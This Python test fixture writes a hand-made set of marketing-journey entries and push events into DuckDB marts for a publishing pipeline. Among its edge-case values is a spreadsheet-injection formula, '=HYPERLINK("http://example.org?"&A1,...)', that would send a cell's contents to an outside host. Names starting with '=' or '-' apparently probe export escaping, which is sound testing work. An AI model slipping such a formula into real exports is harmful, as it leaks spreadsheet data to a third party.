"""A small publication of journeys, written by hand: what is in it is what these lists say."""

from __future__ import annotations

from collections import Counter, defaultdict
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path

import duckdb

from orchestration.publish.publication import (
    Publication,
    database_of,
    folder_of,
    parquet_of,
    swap,
    write_record,
)
from orchestration.settings import Settings

FORMULA = '=HYPERLINK("http://example.org?"&A1,"words meant for nobody else")'
LINES = 'crème, "brûlée"; 🍮\r\nsecond line'
PHONE = "+4930555123"
EVENT_TYPES = ("sent", "delivered", "viewed", "clicked", "failed", "custom")
_AHEAD = timedelta(hours=2)
"""How far the tenants' clocks are ahead of UTC."""


@dataclass(frozen=True)
class Entry:
    """An entry; times are `DD hh` of October 2025, UTC."""

    tenant: str
    journey: str
    entry: str
    user: str
    entered: str
    exited: str | None = None
    converted: str | None = None
    is_window_open: bool = False

    @property
    def outcome(self) -> str:
        if self.converted:
            return "converted_exited" if self.exited else "converted_active"
        return "exited" if self.exited else "active"


@dataclass(frozen=True)
class Record:
    """A record of a journey; times are `DD hh` of October 2025, UTC."""

    tenant: str
    journey: str
    step: str
    event_type: str
    platform: str
    user: str
    at: str
    action: str | None = None
    reason: str | None = None
    entry: str = "e1"


ENTRIES = [
    Entry("acme", "welcome", "e1", "anna", "01 10"),
    Entry("acme", "welcome", "e2", "anna", "02 10", exited="03 10", converted="05 23"),
    Entry("acme", "welcome", "e3", FORMULA, "02 23", exited="04 10"),
    Entry("acme", "welcome", "e4", LINES, "03 10", exited="06 10", is_window_open=True),
    Entry("acme", "welcome", "e5", PHONE, "04 10", converted="04 11", is_window_open=True),
    Entry("acme", "welcome", "-e6", "ben", "04 10", exited="04 23"),
    Entry("acme", "=again", "e7", "anna", "07 10", exited="08 10", converted="07 11"),
    Entry("acme", "=again", "e8", "anna", "06 10"),
    Entry("acme", "=again", "e9", "ben", "09 10", exited="09 10", is_window_open=True),
    Entry("other", "welcome", "e1", "anna", "01 10", exited="02 10"),
]
RECORDS = [
    Record("acme", "welcome", "s1", "step_entered", "", "anna", "01 10", entry="e1"),
    Record("acme", "welcome", "s1", "step_entered", "", "anna", "02 10", entry="e2"),
    Record("acme", "welcome", "s1", "step_entered", "", FORMULA, "02 23", entry="e3"),
    Record("acme", "welcome", "s1", "step_entered", "", LINES, "03 10", entry="e4"),
    Record("acme", "welcome", "s2", "step_entered", "", "anna", "02 11", entry="e2"),
    Record("acme", "welcome", "s2", "step_entered", "", "anna", "02 12", entry="e2"),
    Record("acme", "welcome", "s2", "step_entered", "", LINES, "03 11", entry="e4"),
    Record("acme", "=again", "s1", "step_entered", "", "ben", "09 10", entry="e9"),
    Record("other", "welcome", "s1", "step_entered", "", "anna", "01 10", entry="e1"),
    Record("acme", "welcome", "s1", "sent", "ios", "anna", "01 10", reason=None),
    Record("acme", "welcome", "s1", "sent", "ios", "anna", "02 10", entry="e2"),
    Record("acme", "welcome", "s1", "sent", "android", "anna", "02 10", entry="e2"),
    Record("acme", "welcome", "s1", "sent", "android", FORMULA, "02 23", entry="e3"),
    Record("acme", "welcome", "", "sent", "", LINES, "03 10", entry="e4"),
    Record("acme", "=again", "s1", "sent", "ios", "ben", "09 10", entry="e9"),
    Record("acme", "loose", "s9", "sent", "web", "carla", "10 10"),
    Record("other", "welcome", "s1", "sent", "ios", "anna", "01 10"),
    Record("acme", "welcome", "s1", "delivered", "ios", "anna", "01 11"),
    Record("acme", "welcome", "s1", "viewed", "ios", "anna", "01 12"),
    Record("acme", "welcome", "s1", "viewed", "web", "anna", "01 13"),
    Record("acme", "welcome", "s1", "clicked", "ios", "anna", "01 12", action="Open shop"),
    Record("acme", "welcome", "s1", "clicked", "android", "anna", "02 12", entry="e2"),
    Record("acme", "welcome", "s1", "clicked", "ios", LINES, "02 23", action=FORMULA, entry="e4"),
    Record("acme", "welcome", "s1", "failed", "ios", "anna", "01 10", reason="first reason"),
    Record("acme", "welcome", "s1", "failed", "ios", "anna", "02 10", reason=FORMULA, entry="e2"),
    Record("acme", "welcome", "s1", "failed", "ios", LINES, "03 10", reason=LINES, entry="e4"),
    Record("acme", "welcome", "s2", "custom", "web", "anna", "05 10", action="Purchase Completed"),
    Record("acme", "welcome", "s2", "custom", "ios", "anna", "06 10", action="Purchase Completed"),
    Record("acme", "welcome", "s2", "custom", "web", "anna", "07 10", action="Opened, twice"),
    Record("acme", "welcome", "s2", "custom", "web", PHONE, "07 23", action=LINES, entry="e5"),
    Record("acme", "welcome", "s2", "custom", "web", PHONE, "07 23", entry="e5"),
]
# Beyond what these lists can say by themselves: entries whose last step this was.
DROP_OFFS = {("acme", "welcome", "s1"): {"e1", "e3"}, ("acme", "welcome", "s2"): {"e2", "e4"}}
DROP_OFFS |= {("acme", "=again", "s1"): {"e9"}, ("other", "welcome", "s1"): {"e1"}}


def write_publication(settings: Settings) -> None:
    """Publish these lists, and the marts that add them up."""
    settings.published.mkdir(parents=True)
    folder = folder_of(settings, "by-hand")
    parquet_of(folder).mkdir(parents=True)
    _write_database(database_of(folder))
    publication = Publication("by-hand", "2025-11-01T00:00:00", None, "", "", {})
    write_record(folder, publication)
    swap(settings, "by-hand")


def _write_database(path: Path) -> None:
    with duckdb.connect(str(path)) as connection:
        connection.execute(Path(__file__).with_name("marts.sql").read_text())

        def fill(mart: str, rows: Iterable[Sequence]) -> None:
            rows = list(rows)
            places = ", ".join("?" * len(rows[0]))
            connection.executemany(f"insert into marts.{mart} values ({places})", rows)

        fill("dim_tenants", [[tenant] for tenant in ("acme", "other", "quiet")])
        fill("fct_journey_entries", map(_entry_row, ENTRIES))
        fill("fct_journey_events", map(_event_row, range(len(RECORDS)), RECORDS))
        fill("fct_journey_entry_steps", _entry_steps())
        fill("fct_journeys", _journeys())
        fill("fct_journey_daily", _daily())
        fill("fct_journey_steps", _steps())
        fill("fct_journey_step_events", _step_counts())
        fill("fct_journey_step_actions", _action_counts())


def at(text: str) -> datetime:
    """The time that a `DD hh` stands for, UTC."""
    day, hour = map(int, text.split())
    return datetime(2025, 10, day, hour)


def local(text: str) -> date:
    """The tenants' local date of a `DD hh`."""
    return (at(text) + _AHEAD).date()


def _time_and_date(text: str | None) -> list:
    return [at(text), local(text)] if text else [None, None]


def _entry_row(entry: Entry) -> list:
    return [
        *(entry.tenant, entry.journey, entry.entry, entry.user),
        *_time_and_date(entry.entered),
        *_time_and_date(entry.exited),
        entry.converted is not None,
        *_time_and_date(entry.converted),
        f"conversion of {entry.entry}" if entry.converted else None,
        at(entry.exited) + timedelta(days=1) if entry.exited else None,
        entry.is_window_open or not entry.exited,
        entry.outcome,
    ]


def _event_row(number: int, record: Record) -> list:
    return [
        *(record.tenant, record.journey, f"event-{number:02}", record.user, record.entry),
        *(record.event_type, at(record.at), local(record.at), record.step, "push"),
        *(record.platform, record.action, record.reason),
    ]


def _entry_steps() -> Iterable[list]:
    visits = defaultdict(list)
    for record in RECORDS:
        if record.event_type == "step_entered":
            visits[record.tenant, record.journey, record.entry, record.step].append(record)
    for (tenant, journey, entry, step), records in visits.items():
        first = records[0]
        yield [
            *(tenant, journey, entry, step, first.user, *_time_and_date(first.at)),
            len(records),
            entry in DROP_OFFS[tenant, journey, step],
        ]


def _journeys() -> Iterable[list]:
    for tenant, journey in sorted({(entry.tenant, entry.journey) for entry in ENTRIES}):
        entries = [one for one in ENTRIES if (one.tenant, one.journey) == (tenant, journey)]
        outcomes = Counter(entry.outcome for entry in entries)
        converted = [entry for entry in entries if entry.converted]
        users = {entry.user for entry in entries}
        exits = [entry for entry in entries if entry.outcome == "exited"]
        yield [
            *(tenant, journey),
            sum(
                (one.tenant, one.journey, one.event_type) == (tenant, journey, "sent")
                for one in RECORDS
            ),
            *(len(entries), len(users), len({entry.user for entry in converted})),
            *(len(converted) / len(users), len(converted)),
            *(outcomes["converted_exited"], outcomes["converted_active"]),
            *(len(converted) / len(entries), outcomes["exited"], outcomes["active"]),
            sum(entry.is_window_open for entry in exits),
        ]


def _daily() -> Iterable[list]:
    counts: defaultdict[tuple, Counter] = defaultdict(Counter)
    for entry in ENTRIES:
        journey = (entry.tenant, entry.journey)
        counts[*journey, local(entry.entered)]["entries"] += 1
        if entry.converted:
            counts[*journey, local(entry.entered)]["by_entry"] += 1
            counts[*journey, local(entry.converted)]["by_conversion"] += 1
        elif entry.exited:
            counts[*journey, local(entry.exited)]["exits"] += 1
    for record in RECORDS:
        if record.event_type == "sent" and record.journey != "loose":
            counts[record.tenant, record.journey, local(record.at)]["sent"] += 1
    for key, count in counts.items():
        columns = ("entries", "by_entry", "by_conversion", "exits", "sent")
        yield [*key, *(count[name] for name in columns)]


def _steps() -> Iterable[list]:
    visits = [record for record in RECORDS if record.event_type == "step_entered"]
    for key, counts in _events_and_users(visits, lambda one: (one.step,)).items():
        yield [*key, *counts, len(DROP_OFFS[key])]


def _step_counts() -> Iterable[list]:
    records = [record for record in RECORDS if record.event_type in EVENT_TYPES]
    counted = _events_and_users(records, lambda one: (one.step, one.event_type, one.platform))
    return [[*key, *counts] for key, counts in counted.items()]


def _action_counts() -> Iterable[list]:
    records = [record for record in RECORDS if record.action]
    counted = _events_and_users(records, lambda one: (one.step, one.action, one.platform))
    return [[*key, *counts] for key, counts in counted.items()]


def _events_and_users(records: list[Record], key_of) -> dict[tuple, tuple[int, int]]:
    users = defaultdict(list)
    for record in records:
        users[record.tenant, record.journey, *key_of(record)].append(record.user)
    return {key: (len(some), len(set(some))) for key, some in users.items()}
